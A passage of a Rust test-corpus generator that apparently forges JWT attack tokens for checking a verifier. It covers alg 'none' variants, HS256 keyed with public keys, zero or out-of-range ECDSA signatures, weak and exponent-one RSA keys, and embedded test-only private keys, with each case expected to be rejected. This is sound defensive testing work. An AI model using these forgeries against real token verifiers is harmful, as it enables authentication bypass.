            let t = hmac::sign(&key, &msg);
            let k = num::from_be(&t.as_ref()[..c.len], l);
            if num::is_zero(&k) || num::geq(&k, &n.n) {
                continue;
            }
            let (x, _) = c.mul_base(&k);
            let mut r = x;
            n.reduce_once(&mut r);
            if num::is_zero(&r) {
                continue;
            }
            let s = n.mul(&n.inv(&k), &n.add(&z, &n.mul(&r, &self.d)));
            if num::is_zero(&s) {
                continue;
            }
            let mut s_bytes = num::to_be(&s, c.len);
            let neg = c.negate_scalar(&s_bytes);
            if neg < s_bytes {
                s_bytes = neg;
            }
            let mut sig = num::to_be(&r, c.len);
            sig.extend_from_slice(&s_bytes);
            return sig;
        }
    }
}

// ---- RSA -----------------------------------------------------------------------------

/// A 2048-bit RSA key made with `openssl genpkey -algorithm RSA
/// -pkeyopt rsa_keygen_bits:2048`. TEST-ONLY: it protects nothing.
const RSA_2048_PKCS8: &str = "
MIIEvgIBADANBgkqhkiG9w0BAQEFAASCBKgwggSkAgEAAoIBAQDHCkdJvpS0iCB4
fld+kwiSUCEdWBGq0DOe+QrVi6PeMq8CmG2UJ97aj85zSaPEA7ps6mWKVYVL7qUo
o1b1Xvm0Km8bieGu6dtBVqWtNnmxlIDWdFoiaYaAtVMfZsWyNlxKbZn2oJiVKweM
Vh1sK9rKRskzkw8+Fu3YdSgJRyvhw6p+yqMlNiGm1B0ToJMxwan0gPu24YZBZGQ1
XFcmpFmchno9dvLfMy4WBk7R1aN9bs2LVG/KSi0NukUVx14pQj+ID2eJsYvxnfZW
nURwaZTl4jSpJMQjcW8IwJ+N8757LiqFzVrOlAycmdhAymGoywzLCDxlC+wSEwEU
dKrJohydAgMBAAECggEAA0kMZa93YWZ40LxXId/37YBUl5knS4A9xeM69kzkgsun
311YO7CPyWBDylveD+N23Yrd67NfLKJvB/VwP0MW0I49wMDdIIe8Jn8xY2NJjXCT
0tZfUX+X6IJ1sYg+/aLPkavu9WbvtdCcwoh+WlV7+khCVG9aOk5jFSZT55lM5GBQ
sBDQQ1ANyBtc1edx9LM5zzv/L80178GTo54BQ6Q8Dg+4VmzPes6HyfqBpohlVxbT
KVf37pmLdnNSBlSq6OKI8XogMmQCH8n5ZYI2ZtVcB2AFmg3uETsopec3wAuf4oPc
FHJG/Ce6gbbBk7rn1jbsVUIELAOYdASczsNI7+XNiQKBgQD5kmnXRplMBIlj1HAy
6O5vXJRAFqQ+CFZmYjCE/ViQSct6eYcUBFLfKtdOe3Vvr0dfySAbr8axqVsLfoBJ
01A1MuKT8i25TFhTAT5IO+86QoAfpf+tTgRIpTfkaVppJ/wrKSTa2uqckMdDHIzX
m6NimecjdgH5kGoHv9vRWif7hQKBgQDMKq1GqbRrGhBIp6oMl9MMkuHsuFfZau0f
FoYxBlSscMeQzLeg8TzRMcE5AbO2Q50LoDa/hzPGLPy5Sfb5do6+5YR3LLxSA2Cw
4s4OW3bHFp8Vw2scHsttA+YN9/XSe08zpixF3oyWOF6c1gfNlmliUx/uRQ7svaLc
uZErgtNsOQKBgQCLbR2ONBXOXzZ2PCeWeYVDV6BHEZ8ePMAwIKjkkzjYGzH/MUei
iivWG3P/l39rLqwcOhui/BdwB6IikMCQ/enwXoYwivq6a4lojehCqKEkliRIChAF
vPEtuIe6JpVo6/q4DhtV3Tl20HdR6fBRP9UOb9aue+3sg56Ix8nBcrGllQKBgBjr
UJDiX7n+yWQEytWUplbPirG44kgQK/byadiL/EO71C/RPMxxBUpHN1083vFtGTr1
CBmiZ+hVT1dSNsnF9bBJFTzygd3EucV9OUc5VKsCENK4MleRTqT0p9ymmiNhl44n
RxoUCra/FJUx7mviYuR0Xt5XIXY1wy4LnDNiWWnJAoGBALkoWhfXelZtZ83nsbzA
wRLAzHftUlb1VQ2SlBjIQQlDGWXfctHW3l+V1Je2h1MenadLL0uot/MfeSFB4QMI
SHrz27OmX42NWy5UlZERFexITi+zOV0ll0LM1YXwLUfMxE5pwVG+Bu9eb0IYLu+w
dfFMbY9tHMebarzud6bG3xBV
";

/// A 1024-bit RSA key made with `openssl genpkey -algorithm RSA
/// -pkeyopt rsa_keygen_bits:1024`, for the weak-key case. TEST-ONLY: it protects nothing.
/// aws-lc-rs refuses to sign with keys under 2048 bits, hence the local signer.
const RSA_1024_PKCS8: &str = "
MIICdQIBADANBgkqhkiG9w0BAQEFAASCAl8wggJbAgEAAoGBANXzdAFzDKmtLSYr
5M3shmDH5NB7pS3eEaEmA+OGdMgRt4tofJBsTBPBjbCpf8y5L5pWFTvptP28YskB
ZA4O2qX+b36jATV4BrAPX1u885Oqxf04Keetc+taD5tuO7U3QuKksuFp/jVUutdO
U7r+hvxuDbLNUzrB1YCVtz6jO5MtAgMBAAECgYAWMHquj80XZ/OPyuufA9HoBbNQ
gBJgkHCJoxSyK0a/XT8JAVwx6ll1jxRv5xRvGiG6wwTOwu1Xh4tDR5al8ppwfkPt
qhy7TCszpJG54RNvAMG2Q9KRMxejbxqicdgQaRj+H2hIDSr18nuuLm2MFAKik8KR
Ybq+kPHVD6mU3WTmgQJBAPBui8Z7ESK5/UOtTw6jJubahrnSUT8oyfIcEO4XP5Sc
BX/9mNUKMZAe9yegaXBPNry8rmlSJCh0BhPWe+Ndz00CQQDjzfRnc0tujZmbeNvz
moGfsrPwxU0TJ0riKtkpdYoxkf1n9dJgVilz3zsa2Ly5sUpxNRpgAdSWIG7jZxZT
eqNhAkAA0l/n7cPBOqGC+bSreCNJ5rVPLUjZzmniSfZE2g99koryRQugrsg8ld6C
ZCn4GE03l+2Arqcw/DSJHNKPlGKBAkBOM8utH9VLVGzhBHJthCLvkcdX5kN5ScnZ
LmBybRlNvxJA+BCKZcnBL2b45mKTVJt7lYFCaB50kxm+EwuFCNrBAkBvMA3j0PpT
GjwNqxRO46rEFNzDMeYucTcR9q60egoSsCO8gfaiH83PZ3JzVbogunv4BisajO+h
Rpvf0HgQApVp
";

/// Splits one DER TLV off `input`: (tag, contents, rest).
fn der_take(input: &[u8]) -> (u8, &[u8], &[u8]) {
    let tag = input[0];
    let (len, header) = if input[1] < 0x80 {
        (usize::from(input[1]), 2)
    } else {
        let count = usize::from(input[1] & 0x7f);
        let len = input[2..2 + count]
            .iter()
            .fold(0usize, |acc, b| (acc << 8) | usize::from(*b));
        (len, 2 + count)
    };
    (tag, &input[header..header + len], &input[header + len..])
}

fn der(tag: u8, contents: &[u8]) -> Vec<u8> {
    let mut out = vec![tag];
    let len = contents.len();
    if len < 0x80 {
        out.push(len as u8);
    } else if len < 0x100 {
        out.extend_from_slice(&[0x81, len as u8]);
    } else {
        out.extend_from_slice(&[0x82, (len >> 8) as u8, len as u8]);
    }
    out.extend_from_slice(contents);
    out
}

fn der_uint(bytes: &[u8]) -> Vec<u8> {
    let bytes = strip_zeros(bytes);
    let mut c = Vec::with_capacity(bytes.len() + 1);
    if bytes.first().is_none_or(|b| b & 0x80 != 0) {
        c.push(0);
    }
    c.extend_from_slice(bytes);
    der(0x02, &c)
}

fn strip_zeros(bytes: &[u8]) -> &[u8] {
    let start = bytes.iter().position(|b| *b != 0).unwrap_or(bytes.len());
    &bytes[start..]
}

fn pem(label: &str, der: &[u8]) -> String {
    let body = STANDARD.encode(der);
    let mut out = format!("-----BEGIN {label}-----\n");
    for chunk in body.as_bytes().chunks(64) {
        out.push_str(std::str::from_utf8(chunk).expect("base64 is ascii"));
        out.push('\n');
    }
    out.push_str(&format!("-----END {label}-----\n"));
    out
}

/// An RSA private key: aws-lc-rs for PKCS#1 v1.5 when it accepts the key (2048 bits and
/// up; deterministic), otherwise a local CRT exponentiation.
#[derive(Debug)]
struct RsaKey {
    /// Modulus length, bytes.
    k: usize,
    n: Vec<u8>,
    e: Vec<u8>,
    /// The Montgomery contexts of the primes p and q.
    mp: Mont,
    mq: Mont,
    dp: Vec<u8>,
    dq: Vec<u8>,
    /// q^-1 mod p.
    qinv: Limbs,
    /// q, for the CRT recombination.
    q: Limbs,
    /// The private exponent, as the PSS salt-derivation key.
    d: Vec<u8>,
    aws: Option<aws_lc_rs::signature::RsaKeyPair>,
}

impl RsaKey {
    fn from_pkcs8_base64(text: &str) -> Self {
        let compact: String = text.split_whitespace().collect();
        let der = STANDARD.decode(compact).expect("embedded PKCS#8 is base64");
        let (_, info, _) = der_take(&der);
        let (_, _version, rest) = der_take(info);
        let (_, _algorithm, rest) = der_take(rest);
        let (_, octets, _) = der_take(rest);
        let (_, rsa, _) = der_take(octets);
        let (_, _version, mut rest) = der_take(rsa);
        let mut ints = Vec::new();
        for _ in 0..8 {
            let (_, int, tail) = der_take(rest);
            ints.push(strip_zeros(int).to_vec());
            rest = tail;
        }
        let [n, e, d, p, q, dp, dq, qinv] = <[Vec<u8>; 8]>::try_from(ints).expect("8 integers");
        let k = n.len();
        // The CRT helpers below assume two primes of exactly half the modulus size.
        assert!(p.len() * 2 == k && q.len() * 2 == k && p[0] & 0x80 != 0 && q[0] & 0x80 != 0);
        let half = (k / 2).div_ceil(8);
        Self {
            k,
            mp: Mont::new(num::from_be(&p, half)),
            mq: Mont::new(num::from_be(&q, half)),
            q: num::from_be(&q, half),
            qinv: num::from_be(&qinv, half),
            dp,
            dq,
            d,
            e,
            aws: aws_lc_rs::signature::RsaKeyPair::from_pkcs8(&der).ok(),
            n,
        }
    }

    fn jwk(&self, kid: &str, alg: &str) -> Value {
        json!({"kty": "RSA", "kid": kid, "alg": alg, "use": "sig",
               "n": b64::encode(&self.n), "e": b64::encode(&self.e)})
    }

    /// SubjectPublicKeyInfo DER (what `-----BEGIN PUBLIC KEY-----` holds).
    fn spki_der(&self) -> Vec<u8> {
        let rsa_public = der(0x30, &[der_uint(&self.n), der_uint(&self.e)].concat());
        let algorithm = der(
            0x30,
            &[der(0x06, &hex("2a864886f70d010101")), vec![0x05, 0x00]].concat(),
        );
        let mut bits = vec![0u8];
        bits.extend_from_slice(&rsa_public);
        der(0x30, &[algorithm, der(0x03, &bits)].concat())
    }

    /// m^d mod n for an encoded message `em` < n, by the CRT (RFC 8017 §5.1.2).
    fn raw(&self, em: &[u8]) -> Vec<u8> {
        assert!(
            em.len() == self.k && em < self.n.as_slice(),
            "message representative out of range"
        );
        let half = self.mp.limbs();
        let c = num::from_be(em, 2 * half);
        let m1 = self.mp.pow(&reduce_double(&self.mp, &c), &self.dp);
        let m2 = self.mq.pow(&reduce_double(&self.mq, &c), &self.dq);
        let mut m2p = m2.clone();
        self.mp.reduce_once(&mut m2p);
        let h = self.mp.mul(&self.qinv, &self.mp.sub(&m1, &m2p));
        let mut s = num::mul_full(&h, &self.q);
        let mut m2_wide = m2;
        m2_wide.resize(2 * half, 0);
        num::add_assign(&mut s, &m2_wide);
        num::to_be(&s, self.k)
    }

    /// EMSA-PKCS1-v1_5 (RFC 8017 §9.2).
    fn pkcs1_encoding(&self, alg: &'static digest::Algorithm, msg: &[u8]) -> Vec<u8> {
        let prefix = if alg == &digest::SHA512 {
            "3051300d060960864801650304020305000440"
        } else if alg == &digest::SHA384 {
            "3041300d060960864801650304020205000430"
        } else {
            "3031300d060960864801650304020105000420"
        };
        let mut t = hex(prefix);
        t.extend_from_slice(digest::digest(alg, msg).as_ref());
        let mut em = vec![0x00, 0x01];
        em.resize(self.k - t.len() - 1, 0xff);
        em.push(0x00);
        em.extend_from_slice(&t);
        em
    }

    fn sign_pkcs1(&self, alg: &'static digest::Algorithm, msg: &[u8]) -> Vec<u8> {
        let Some(pair) = &self.aws else {
            return self.sign_pkcs1_local(alg, msg);
        };
        let padding: &'static dyn aws_lc_rs::signature::RsaEncoding = if alg == &digest::SHA512 {
            &aws_lc_rs::signature::RSA_PKCS1_SHA512
        } else if alg == &digest::SHA384 {
            &aws_lc_rs::signature::RSA_PKCS1_SHA384
        } else {
            &aws_lc_rs::signature::RSA_PKCS1_SHA256
        };
        let mut sig = vec![0u8; pair.public_modulus_len()];
        pair.sign(
            padding,
            &aws_lc_rs::rand::SystemRandom::new(),
            msg,
            &mut sig,
        )
        .expect("rsa signing");
        sig
    }

    fn sign_pkcs1_local(&self, alg: &'static digest::Algorithm, msg: &[u8]) -> Vec<u8> {
        self.raw(&self.pkcs1_encoding(alg, msg))
    }

    /// RSASSA-PSS (RFC 8017 §8.1, §9.1), salt length = hash length, MGF1 with the same
    /// hash; the salt is derived by HMAC from the private exponent and the message.
    fn sign_pss(&self, alg: &'static digest::Algorithm, msg: &[u8]) -> Vec<u8> {
        let h_len = alg.output_len();
        let salt_key = hmac::Key::new(hmac::HMAC_SHA512, &self.d);
        let salt = hmac::sign(&salt_key, msg).as_ref()[..h_len].to_vec();
        let em_bits = 8 * self.k - self.n[0].leading_zeros() as usize - 1;
        let em_len = em_bits.div_ceil(8);
        let m_hash = digest::digest(alg, msg);
        let mut m_prime = vec![0u8; 8];
        m_prime.extend_from_slice(m_hash.as_ref());
        m_prime.extend_from_slice(&salt);
        let h = digest::digest(alg, &m_prime);
        let mut db = vec![0u8; em_len - h_len - h_len - 2];
        db.push(0x01);
        db.extend_from_slice(&salt);
        let mask = mgf1(alg, h.as_ref(), em_len - h_len - 1);
        for (b, m) in db.iter_mut().zip(&mask) {
            *b ^= m;
        }
        db[0] &= 0xff >> (8 * em_len - em_bits);
        let mut em = vec![0u8; self.k - em_len];
        em.extend_from_slice(&db);
        em.extend_from_slice(h.as_ref());
        em.push(0xbc);
        self.raw(&em)
    }
}

/// c mod m for c of twice m's limbs, m's top bit set: c = hi·R + lo with hi, lo < 2m.
fn reduce_double(m: &Mont, c: &[u64]) -> Limbs {
    let l = m.limbs();
    let mut lo = c[..l].to_vec();
    let mut hi = c[l..].to_vec();
    m.reduce_once(&mut lo);
    m.reduce_once(&mut hi);
    m.add(&m.to_mont(&hi), &lo)
}

fn mgf1(alg: &'static digest::Algorithm, seed: &[u8], len: usize) -> Vec<u8> {
    let mut out = Vec::with_capacity(len + alg.output_len());
    let mut counter: u32 = 0;
    while out.len() < len {
        let mut ctx = digest::Context::new(alg);
        ctx.update(seed);
        ctx.update(&counter.to_be_bytes());
        out.extend_from_slice(ctx.finish().as_ref());
        counter += 1;
    }
    out.truncate(len);
    out
}

// ---- the corpus keys -----------------------------------------------------------------

/// The HMAC key published as an `oct` JWK by issuer A.
const OCT_KEY: &[u8] = b"legate-corpus-published-hmac-key";

/// Every issuer key of the corpus. None depends on the seed.
#[derive(Debug)]
struct Keys {
    rsa: RsaKey,
    rsa1024: RsaKey,
    es256: EcKey,
    es384: EcKey,
    k256: EcKey,
    a_shared: EcKey,
    a_rotated: EcKey,
    dup1: EcKey,
    dup2: EcKey,
    b_shared: EcKey,
    r_es256: EcKey,
    eddsa: Ed25519KeyPair,
    b_eddsa: Ed25519KeyPair,
}

fn ed25519(label: &str) -> Ed25519KeyPair {
    Ed25519KeyPair::from_seed_unchecked(digest::digest(&digest::SHA256, label.as_bytes()).as_ref())
        .expect("ed25519 seed")
}

fn ed_jwk(key: &Ed25519KeyPair, kid: &str) -> Value {
    json!({"kty": "OKP", "crv": "Ed25519", "kid": kid, "alg": "EdDSA", "use": "sig",
           "x": b64::encode(key.public_key().as_ref())})
}

fn keys() -> &'static Keys {
    static KEYS: OnceLock<Keys> = OnceLock::new();
    KEYS.get_or_init(|| Keys {
        rsa: RsaKey::from_pkcs8_base64(RSA_2048_PKCS8),
        rsa1024: RsaKey::from_pkcs8_base64(RSA_1024_PKCS8),
        es256: EcKey::from_label(Curve::p256(), "legate corpus / issuer-a / es256"),
        es384: EcKey::from_label(Curve::p384(), "legate corpus / issuer-a / es384"),
        k256: EcKey::from_label(Curve::secp256k1(), "legate corpus / issuer-a / es256k"),
        a_shared: EcKey::from_label(Curve::p256(), "legate corpus / issuer-a / shared-kid"),
        a_rotated: EcKey::from_label(Curve::p256(), "legate corpus / issuer-a / rotated"),
        dup1: EcKey::from_label(Curve::p256(), "legate corpus / issuer-a / dup 1"),
        dup2: EcKey::from_label(Curve::p256(), "legate corpus / issuer-a / dup 2"),
        b_shared: EcKey::from_label(Curve::p256(), "legate corpus / issuer-b / shared-kid"),
        r_es256: EcKey::from_label(Curve::p256(), "legate corpus / issuer-r / es256"),
        eddsa: ed25519("legate corpus / issuer-a / eddsa"),
        b_eddsa: ed25519("legate corpus / issuer-b / eddsa"),
    })
}

// ---- signing and token assembly ------------------------------------------------------

/// How the signature segment is produced.
#[derive(Clone, Copy)]
enum Signer<'k> {
    /// RSASSA-PKCS1-v1_5 with the given hash.
    Rs(&'k RsaKey, &'static digest::Algorithm),
    /// RSASSA-PSS with the given hash.
    Ps(&'k RsaKey, &'static digest::Algorithm),
    /// ECDSA over the given hash.
    Ec(&'k EcKey, &'static digest::Algorithm),
    /// Ed25519.
    Ed(&'k Ed25519KeyPair),
    /// HMAC-SHA-256 with these key bytes.
    Hs(&'k [u8]),
    /// The RSA "signature" that verifies under `e = 1`: the encoded message itself.
    RsaExponentOne(&'k RsaKey),
}

impl Signer<'_> {
    fn sign(self, input: &[u8]) -> Vec<u8> {
        match self {
            Signer::Rs(key, alg) => key.sign_pkcs1(alg, input),
            Signer::Ps(key, alg) => key.sign_pss(alg, input),
            Signer::Ec(key, alg) => key.sign_hash(digest::digest(alg, input).as_ref()),
            Signer::Ed(key) => key.sign(input).as_ref().to_vec(),
            Signer::Hs(secret) => hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, secret), input)
                .as_ref()
                .to_vec(),
            Signer::RsaExponentOne(key) => key.pkcs1_encoding(&digest::SHA256, input),
        }
    }
}

fn to_json(v: &Value) -> Vec<u8> {
    serde_json::to_vec(v).expect("serialise json")
}

/// `b64(header) . b64(payload) . b64(signature over the first two)`, from raw bytes.
fn compact(header: &[u8], payload: &[u8], signer: Signer<'_>) -> String {
    let input = format!("{}.{}", b64::encode(header), b64::encode(payload));
    let sig = signer.sign(input.as_bytes());
    format!("{input}.{}", b64::encode(sig))
}

fn token(header: &Value, claims: &Value, signer: Signer<'_>) -> String {
    compact(&to_json(header), &to_json(claims), signer)
}

fn parts(token: &str) -> (&str, &str, &str) {
    let mut it = token.splitn(3, '.');
    (
        it.next().expect("header"),
        it.next().expect("payload"),
        it.next().expect("signature"),
    )
}

fn signature(token: &str) -> Vec<u8> {
    b64::decode(parts(token).2).expect("signature is base64url")
}

fn with_signature(token: &str, sig: &[u8]) -> String {
    let (h, p, _) = parts(token);
    format!("{h}.{p}.{}", b64::encode(sig))
}

fn hdr(alg: &str, kid: &str) -> Value {
    json!({"alg": alg, "kid": kid, "typ": "JWT"})
}

fn set(mut v: Value, name: &str, value: Value) -> Value {
    v[name] = value;
    v
}

fn unset(mut v: Value, name: &str) -> Value {
    if let Some(obj) = v.as_object_mut() {
        obj.remove(name);
    }
    v
}

/// The JSON text of `claims` with `member` (raw JSON text) inserted first or last.
fn raw_object_with(claims: &Value, member: &str, first: bool) -> Vec<u8> {
    let text = serde_json::to_string(claims).expect("serialise json");
    let inner = &text[1..text.len() - 1];
    if first {
        format!("{{{member},{inner}}}").into_bytes()
    } else {
        format!("{{{inner},{member}}}").into_bytes()
    }
}

/// (name, `iat`, `nbf`, `exp`, expected reason).
type TimedCase = (&'static str, Option<i64>, Option<i64>, i64, &'static str);

/// `claims` with `exp` set, and `iat`/`nbf` set or removed.
fn with_times(claims: Value, iat: Option<i64>, nbf: Option<i64>, exp: i64) -> Value {
    let mut c = set(claims, "exp", json!(exp));
    for (name, value) in [("iat", iat), ("nbf", nbf)] {
        c = match value {
            Some(t) => set(c, name, json!(t)),
            None => unset(c, name),
        };
    }
    c
}

/// `=` padding that would make `segment` a padded base64 string (or an extra `=`).
fn padding(segment: &str) -> &'static str {
    match segment.len() % 4 {
        2 => "==",
        _ => "=",
    }
}

/// Length of the base64url (unpadded) encoding of `n` bytes.
fn b64_len(n: usize) -> usize {
    (4 * n).div_ceil(3)
}

/// The generator: context, seed and output.
struct Gen<'a> {
    ctx: &'a CorpusContext,
    seed: u64,
    k: &'static Keys,
    out: Vec<AttackCase>,
}

impl<'a> Gen<'a> {
    fn new(seed: u64, ctx: &'a CorpusContext) -> Self {
        Self {
            ctx,
            seed,
            k: keys(),
            out: Vec::new(),
        }
    }

    fn rng(&self, label: &str) -> SplitMix64 {
        SplitMix64::new(self.seed, label)
    }

    /// Legitimate claims of issuer `iss` for repository `repo`, `jti` drawn for `label`.
    fn claims_of(&self, iss: &str, repo: &str, label: &str) -> Value {
        let now = self.ctx.now;
        json!({
            "iss": iss,
            "aud": AUDIENCE,
            "sub": SUBJECT,
            "jti": self.rng(label).id(),
            "iat": now - 5,
            "nbf": now - 5,
            "exp": now + 300,
            "repository_id": repo,
            "ref": "refs/heads/main",
        })
    }

    /// Legitimate claims of issuer A (repository 42).
    fn a(&self, label: &str) -> Value {
        self.claims_of(ISSUER_A, "42", label)
    }

    fn es256_signer(&self) -> Signer<'static> {
        Signer::Ec(&self.k.es256, &digest::SHA256)
    }

    /// A token of issuer A's ES256 key `es256`.
    fn es256(&self, claims: &Value) -> String {
        token(&hdr("ES256", "es256"), claims, self.es256_signer())
    }

    fn add(&mut self, class: AttackClass, name: impl Into<String>, token: String, expect: Expect) {
        self.out.push(AttackCase {
            name: name.into(),
            class,
            token,
            expect,
        });
    }

    /// An ES256 token of issuer A padded with a `pad` claim to a length near `target`:
    /// the largest length <= target, or (`above`) the smallest length >= target.
    fn sized(&self, label: &str, target: usize, above: bool) -> String {
        let base = self.a(label);
        let header = to_json(&hdr("ES256", "es256"));
        let fixed = b64_len(header.len()) + 2 + b64_len(64);
        let len_with = |pad: usize| {
            let claims = set(base.clone(), "pad", json!("x".repeat(pad)));
            fixed + b64_len(to_json(&claims).len())
        };
        let estimate = (target.saturating_sub(len_with(0))) * 3 / 4;
        let candidates = estimate.saturating_sub(16)..estimate + 16;
        let pad = if above {
            candidates
                .filter(|p| len_with(*p) >= target)
                .min_by_key(|p| len_with(*p))
        } else {
            candidates
                .filter(|p| len_with(*p) <= target)
                .max_by_key(|p| len_with(*p))
        }
        .expect("a padding length near the target");
        self.es256(&set(base, "pad", json!("x".repeat(pad))))
    }
}

fn reject(reason: &'static str) -> Expect {
    Expect::Reject { reason }
}

// ---- the cases -----------------------------------------------------------------------

fn algorithm_cases(g: &mut Gen<'_>) {
    use AttackClass::Algorithm as C;
    use reason::*;
    let k = g.k;

    // `none` in every casing, with the token's old signature and without any
    // (RFC 7518 §3.6; RFC 8725 §2.1, §3.1).
    for (label, alg) in [
        ("lower", "none"),
        ("title", "None"),
        ("upper", "NONE"),
        ("mixed", "nOnE"),
    ] {
        for with_sig in [true, false] {
            let name = format!(
                "alg_none_{label}_{}",
                if with_sig {
                    "with_old_signature"
                } else {
                    "unsigned"
                }
            );
            let claims = g.a(&name);
            let legit = g.es256(&claims);
            let h = b64::encode(to_json(&hdr(alg, "es256")));
            let p = b64::encode(to_json(&claims));
            let sig = if with_sig { parts(&legit).2 } else { "" };
            g.add(C, name, format!("{h}.{p}.{sig}"), reject(UNSUPPORTED_ALG));
        }
    }
    let claims = g.a("alg_missing");
    g.add(
        C,
        "alg_missing",
        token(
            &json!({"kid": "es256", "typ": "JWT"}),
            &claims,
            g.es256_signer(),
        ),
        reject(MISSING_ALG),
    );
    let claims = g.a("alg_not_a_string");
    g.add(
        C,
        "alg_not_a_string",
        token(
            &json!({"alg": ["ES256"], "kid": "es256"}),
            &claims,
            g.es256_signer(),
        ),
        reject(MISSING_ALG),
    );
    let claims = g.a("alg_lowercase_es256");
    g.add(
        C,
        "alg_lowercase_es256",
        token(&hdr("es256", "es256"), &claims, g.es256_signer()),
        reject(UNSUPPORTED_ALG),
    );

    // HS256 MACed with the issuer's *public* key (RFC 8725 §2.1 and §3.1; CVE-2016-10555,
    // CVE-2015-9235): PEM, DER, JWK JSON, raw EC point.
    let rsa_der = k.rsa.spki_der();
    let mut ec_der = hex("3059301306072a8648ce3d020106082a8648ce3d030107034200");
    ec_der.extend_from_slice(&k.es256.point());
    let materials: [(&str, &str, Vec<u8>); 7] = [
        (
            "rsa_public_pem",
            "rs256",
            pem("PUBLIC KEY", &rsa_der).into_bytes(),
        ),
        ("rsa_public_der", "rs256", rsa_der.clone()),
        (
            "rsa_jwk_json",
            "rs256",
            to_json(&k.rsa.jwk("rs256", "RS256")),
        ),
        (
            "ec_public_pem",
            "es256",
            pem("PUBLIC KEY", &ec_der).into_bytes(),
        ),
        ("ec_public_der", "es256", ec_der.clone()),
        (
            "ec_jwk_json",
            "es256",
            to_json(&k.es256.jwk("es256", "ES256")),
        ),
        ("ec_raw_point", "es256", k.es256.point()),
    ];
    for (label, kid, secret) in &materials {
        let name = format!("hs256_keyed_with_{label}");
        let claims = g.a(&name);
        g.add(
            C,
            name,
            token(&hdr("HS256", kid), &claims, Signer::Hs(secret)),
            reject(UNSUPPORTED_ALG),
        );
    }
    // A symmetric key published in the JWKS (RFC 8725 §3.1).
    let claims = g.a("hs256_with_published_oct_key");
    g.add(
        C,
        "hs256_with_published_oct_key",
        token(&hdr("HS256", "hmac"), &claims, Signer::Hs(OCT_KEY)),
        reject(UNSUPPORTED_ALG),
    );
    let claims = g.a("oct_key_kid_with_allowed_alg");
    g.add(
        C,
        "oct_key_kid_with_allowed_alg",
        token(&hdr("ES256", "hmac"), &claims, Signer::Hs(OCT_KEY)),
        reject(UNKNOWN_KID),
    );

    // Header algorithm other than the key's (RFC 8725 §3.1).
    for (name, alg, kid, signer) in [
        (
            "rs512_on_rs256_key",
            "RS512",
            "rs256",
            Signer::Rs(&k.rsa, &digest::SHA512),
        ),
        (
            "ps256_on_rs256_key",
            "PS256",
            "rs256",
            Signer::Ps(&k.rsa, &digest::SHA256),
        ),
        (
            "rs256_on_ps256_key",
            "RS256",
            "ps256",
            Signer::Rs(&k.rsa, &digest::SHA256),
        ),
        (
            "es384_on_es256_key",
            "ES384",
            "es256",
            Signer::Ec(&k.es256, &digest::SHA384),
        ),
        (
            "es256_on_p384_key",
            "ES256",
            "es384",
            Signer::Ec(&k.es384, &digest::SHA256),
        ),
    ] {
        let claims = g.a(name);
        g.add(
            C,
            name,
            token(&hdr(alg, kid), &claims, signer),
            reject(ALG_KEY_MISMATCH),
        );
    }
    // An algorithm the key supports but the trust does not allow (issuer B: ES256 only).
    let claims = g.claims_of(ISSUER_B, "7", "alg_not_allowed_for_issuer");
    g.add(
        C,
        "alg_not_allowed_for_issuer",
        token(&hdr("EdDSA", "eddsa-b"), &claims, Signer::Ed(&k.b_eddsa)),
        reject(ALG_NOT_ALLOWED),
    );

    // ECDSA signature encodings and out-of-range values (RFC 7518 §3.4; CVE-2022-21449).
    let base = g.es256(&g.a("es256_der_signature"));
    let raw = signature(&base);
    let mut der_sig = der(0x02, &[&[0u8][..], &raw[..32]].concat());
    der_sig = [der_sig, der(0x02, &[&[0u8][..], &raw[32..]].concat())].concat();
    g.add(
        C,
        "es256_der_signature",
        with_signature(&base, &der(0x30, &der_sig)),
        reject(BAD_SIGNATURE),
    );
    let n = Curve::p256().order();
    let zero = vec![0u8; 32];
    let mut one = vec![0u8; 32];
    one[31] = 1;
    for (name, r, s) in [
        ("ecdsa_r_and_s_zero", Some(&zero), Some(&zero)),
        ("ecdsa_r_zero", Some(&zero), None),
        ("ecdsa_s_zero", None, Some(&zero)),
        ("ecdsa_r_one", Some(&one), None),
        ("ecdsa_s_one", None, Some(&one)),
        ("ecdsa_r_equals_n", Some(&n), None),
        ("ecdsa_s_equals_n", None, Some(&n)),
        ("ecdsa_r_and_s_equal_n", Some(&n), Some(&n)),
    ] {
        let t = g.es256(&g.a(name));
        let sig = signature(&t);
        let mut forged = r.map_or_else(|| sig[..32].to_vec(), Clone::clone);
        forged.extend_from_slice(s.map_or(&sig[32..], Vec::as_slice));
        g.add(C, name, with_signature(&t, &forged), reject(BAD_SIGNATURE));
    }

    // Other curves and weak keys (RFC 7518 §3.3: RSA keys of at least 2048 bits; RFC 8017
    // §3.1: 3 <= e; RFC 8812 §3.2: ES256K is not on Legate's allow-list).
    let claims = g.a("es256_on_secp256k1_key");
    g.add(
        C,
        "es256_on_secp256k1_key",
        token(
            &hdr("ES256", "es256k"),
            &claims,
            Signer::Ec(&k.k256, &digest::SHA256),
        ),
        reject(UNKNOWN_KID),
    );
    let claims = g.a("es256k");
    g.add(
        C,
        "es256k",
        token(
            &hdr("ES256K", "es256k"),
            &claims,
            Signer::Ec(&k.k256, &digest::SHA256),
        ),
        reject(UNSUPPORTED_ALG),
    );
    let claims = g.a("rsa_1024_bit_key");
    g.add(
        C,
        "rsa_1024_bit_key",
        token(
            &hdr("RS256", "rsa-1024"),
            &claims,
            Signer::Rs(&k.rsa1024, &digest::SHA256),
        ),
        reject(UNKNOWN_KID),
    );
    let claims = g.a("rsa_exponent_one_forgery");
    g.add(
        C,
        "rsa_exponent_one_forgery",
        token(
            &hdr("RS256", "rsa-e1"),
            &claims,
            Signer::RsaExponentOne(&k.rsa),
        ),
        reject(UNKNOWN_KID),
    );
    let claims = g.a("kid_ambiguous_in_jwks");
    g.add(
        C,
        "kid_ambiguous_in_jwks",
        token(
            &hdr("ES256", "dup"),
            &claims,
            Signer::Ec(&k.dup1, &digest::SHA256),
        ),
        reject(AMBIGUOUS_KID),
    );

    // Damaged signatures.
    for (alg_name, alg, kid, signer) in [
        (
            "rs256",
            "RS256",
            "rs256",
            Signer::Rs(&k.rsa, &digest::SHA256),
        ),
        ("es256", "ES256", "es256", g.es256_signer()),
        ("eddsa", "EdDSA", "eddsa", Signer::Ed(&k.eddsa)),
    ] {
        for damage in ["empty", "bit_flipped", "truncated"] {
            let name = format!("sig_{damage}_{alg_name}");
            let t = token(&hdr(alg, kid), &g.a(&name), signer);
            let mut sig = signature(&t);
            match damage {
                "empty" => sig.clear(),
                "bit_flipped" => {
                    let mid = sig.len() / 2;
                    sig[mid] ^= 0x01;
                }
                _ => {
